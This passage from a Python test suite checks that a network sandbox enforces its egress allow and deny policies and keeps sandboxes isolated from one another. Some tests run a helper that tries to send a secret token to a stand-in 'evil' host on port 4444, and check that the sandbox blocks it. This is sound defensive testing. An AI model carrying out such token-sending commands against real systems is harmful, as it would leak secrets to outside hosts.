    names = ["wild.example.org", "a.wild.example.org", "a.b.wild.example.org", "example.com", "evilexample.com", "raw.example.com"]

    def reached(allow):
        p.world.forget()
        found = p.inside({"allow": allow}, [https(n, get("/", n)) for n in names])
        good = [n for n, f in zip(names, found) if statuses(f) == [200]]
        asked = set(p.world.queries())
        check(asked <= set(good), "asked for a name that is not allowed: %s, %s" % (asked, good))
        return good

    check(reached(["*.wild.example.org"]) == ["a.wild.example.org"], "one label")
    check(reached(["**.wild.example.org"]) == ["a.wild.example.org", "a.b.wild.example.org"], "any labels, never the apex")
    check(reached(["example.com"]) == ["example.com"], "exact")
    check(reached(["*.example.com"]) == ["raw.example.com"], "evilexample.com or the apex matched")
    check(reached(["wild.example.org"]) == ["wild.example.org"], "exact apex")
    p.world.forget()
    found = p.inside({"allow": []}, [https(n, get("/", n)) for n in names] + [tcp(sites.RAW, 80)])
    check(all(map(closed, found)), "an empty list allows: %s" % found)
    nobody_reached(p, "raw")
    found = p.inside(None, [https("raw.example.com", get()), tcp(sites.RAW, 80)])
    check(all(map(closed, found)), "no policy allows: %s" % found)
    nobody_reached(p, "raw")


@case("N24-order")
def order(p):
    """A deny wins wherever it is written; an unknown key is an error."""
    policy = {"allow": ["**.example.com"], "deny": [{"host": "raw.example.com", "ports": [443]}]}
    found = p.inside(policy, [https("raw.example.com", get()), https("raw2.example.com", get("/", "raw2.example.com"))])
    check(statuses(found[0]) != [200] and statuses(found[1]) == [200], found)
    check(p.denied().about(host="raw.example.com") or closed(found[0]), p.denied())
    policy = {"allow": ["raw.example.com"], "deny": [{"host": "raw.example.com", "ports": [443], "paths": ["/no/**"]}]}
    found = p.inside(policy, [https("raw.example.com", get("/yes")), https("raw.example.com", get("/no/1"))])
    check([statuses(f) for f in found] == [[200], [403]], found)
    refused_policy(p, {"allow": ["raw.example.com"], "alow": ["x.example.com"]}, "alow")
    refused_policy(p, {"allow": [{"host": "raw.example.com", "ports": [443], "method": ["GET"]}]})
    refused_policy(p, {"allow": [{"host": "raw.example.com", "ports": [443], "mode": "tcp"},
                                 {"host": "raw.example.com", "ports": [443], "methods": ["GET"]}]})


@case("N25-no-proxy-needed")
def no_proxy_needed(p):
    """A static program that has never heard of proxies is governed like any other."""
    dial = p.payload("net_dial")
    policy = {"allow": [{"host": "tcp.example.com", "ports": [7777], "mode": "tcp"}]}
    r, _ = p.croft_run(policy, "/bin/sh", "-c", "unset http_proxy https_proxy all_proxy; a=$(%s dns 198.18.0.1 tcp.example.com); "
                       "echo $a; %s tcp ${a#rcode 0 } 7777 hello; %s dns 1.1.1.1 evil.example.net; %s tcp %s 4444 %s"
                       % (dial, dial, dial, dial, sites.EVIL, p.token))
    check("hello" in r.out and p.token not in r.out, r)
    nobody_reached(p, "evil")
    r = p.plain(dial, "tcp", sites.EVIL, "4444", p.token)
    check(p.token in r.out, "the control does not reach: %s" % r)


@case("N25-direct-in-process-tier", tiers=("process",))
def direct_in_process_tier(p):
    """There is no namespace: what does not use the proxy gets nowhere."""
    dial = p.payload("net_dial")
    r, _ = p.croft_run({"allow": ["raw.example.com"]}, "/bin/sh", "-c", "for p in 80 443 4444 53 %d; do %s tcp %s $p x; done; "
                       "%s tcp 127.0.0.1 %d x" % (sites.HOST_HTTP, dial, sites.EVIL, dial, sites.HOST_HTTP))
    check("received" not in r.out, r)
    nobody_reached(p, "evil", "host")
    check("received" in p.plain(dial, "tcp", sites.EVIL, "4444", "x").out, "the control does not reach")


@case("N25-socket-options")
def socket_options(p):
    """Marks, transparent sockets, routes and rules cannot be changed from inside."""
    dial = p.payload("net_dial")
    r, _ = p.croft_run({"allow": ["raw.example.com"]}, "/bin/sh", "-c", "%s options; %s netlink" % (dial, dial))
    said = dict(line.split(" ", 1) for line in r.out.splitlines() if " " in line)
    for what in ("mark", "transparent", "route", "link", "flush"):
        check(said.get(what, "missing") not in ("ok", "missing"), "%s: %s" % (what, r))
    r = subprocess.run(["unshare", "-rn", p.path("net_dial"), "netlink"], capture_output=True, text=True, check=False)
    if r.returncode == 0:
        check("link ok" in r.stdout, "the control cannot change anything: %s" % r.stdout)


@case("N26-two-sandboxes")
def two_sandboxes(p):
    """What one sandbox listens on is not there for another, at any address."""
    listen = ("import socket,sys\ns=socket.create_server(('0.0.0.0',7070));u=socket.socket(socket.AF_UNIX)\n"
              "u.bind('\\0croft-n26');u.listen()\nprint('ready',flush=True);sys.stdin.readline()\n")
    child = p.start({"allow": ["raw.example.com"]}, place.PYTHON, "-c", listen, stdin=subprocess.PIPE)
    try:
        check(child.stdout.readline() == b"ready\n", "the first sandbox does not listen: %s" % child.stderr)
        addresses = ["127.0.0.1", "198.18.0.1", "198.18.0.2", sites.HOST4, sites.HOST_LAN, sites.ROUTER4]
        found = p.inside({"allow": ["raw.example.com"]}, [tcp(a, 7070, wait=3) for a in addresses])
        check(all(map(closed, found)), found)
        control = listen.replace("sys.stdin.readline()", "print(socket.create_connection(('198.18.0.2',7070)).getpeername())")
        r, _ = p.croft_run({"allow": ["raw.example.com"]}, place.PYTHON, "-c", control)
        check("7070" in r.out, "the control, in one sandbox, does not reach itself: %s" % r)
    finally:
        child.stdin.close()
        child.wait(harness.WAIT_S)
        child.stdout.close()
        child.stderr.close()


@case("N26-names-are-separate", once=True)
def names_are_separate(p):
    """A synthetic address that one sandbox was given means nothing in another."""
    first = p.inside({"allow": ["tcp.example.com:7777"]}, [{"do": "dns", "name": "tcp.example.com"}])
    address = first[0]["answers"][0][2]
    found = p.inside({"allow": ["raw.example.com"]}, [tcp(address, 7777)])
    check(closed(found[0]), found)
    nobody_reached(p, "tcp")


if __name__ == "__main__":
    place.main()
